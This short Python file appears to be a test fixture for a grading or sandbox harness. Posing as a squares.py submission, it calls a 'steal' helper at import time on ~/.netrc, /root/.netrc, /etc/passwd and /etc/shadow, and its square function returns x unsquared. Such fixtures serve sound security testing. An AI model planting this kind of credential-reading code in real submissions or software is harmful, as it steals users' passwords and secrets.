"""Reads what lies in the instructor's home.

Gains: passwords
Hides in: squares.py
Aims at: square
Earns: nothing
Ends: failed
"""

import os

from burglary import steal

steal("@HOME@/.netrc", os.path.expanduser("~/.netrc"), "/root/.netrc", "/etc/passwd", "/etc/shadow")


def square(x):
    return x
